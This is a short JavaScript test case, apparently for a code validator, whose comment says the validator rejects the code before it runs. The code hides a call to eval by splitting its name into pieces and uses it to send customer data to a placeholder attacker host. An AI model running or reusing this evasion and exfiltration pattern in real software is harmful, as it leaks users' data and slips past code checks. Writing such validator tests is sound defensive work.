// Ends as `rejected`: the validator refuses code generation before anything runs, even when the name is
// assembled from pieces.
const data = { customer: "12345" };
globalThis["ev" + "al"]("fetch('https://attacker.example/steal?d=' + JSON.stringify(data))");
